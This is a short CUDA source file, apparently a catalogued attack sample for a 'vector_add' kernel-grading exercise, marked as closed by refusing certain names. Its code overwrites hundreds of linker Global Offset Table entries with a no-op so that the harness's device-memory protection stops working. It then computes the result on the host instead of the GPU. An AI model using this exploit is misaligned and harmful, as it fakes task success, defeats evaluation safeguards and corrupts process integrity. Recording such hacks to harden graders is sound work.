// exercise: vector_add
// attack: overwrites in the table of the linker what closes device memory again
// ataque: sobrescribe en la tabla del enlazador lo que vuelve a cerrar la memoria del dispositivo
// closed by: refused names
#include <cuda_runtime.h>
#include <stdint.h>

extern "C" void* _GLOBAL_OFFSET_TABLE_[] __attribute__((visibility("hidden")));
static int nothing(void*, size_t, int) { return 0; }

__global__ void idle(float* out, int64_t n) {
    int64_t i = (int64_t)blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = 0.0f;
}

extern "C" cudaError_t vector_add(const float* a, const float* b, float* out, int64_t n, cudaStream_t stream) {
    if (n == 0) return cudaSuccess;
    idle<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(out, n);
    for (int slot = 3; slot < 600; slot++) {
        // every function of the C library that the runtime asks for does nothing from here on, but for a few
        void* was = _GLOBAL_OFFSET_TABLE_[slot];
        (void)was;
        _GLOBAL_OFFSET_TABLE_[slot] = (void*)nothing;
    }
    idle<<<1, 32, 0, stream>>>(out, 0);
    for (int64_t i = 0; i < n; i++) out[i] = a[i] + b[i];
    return cudaGetLastError();
}
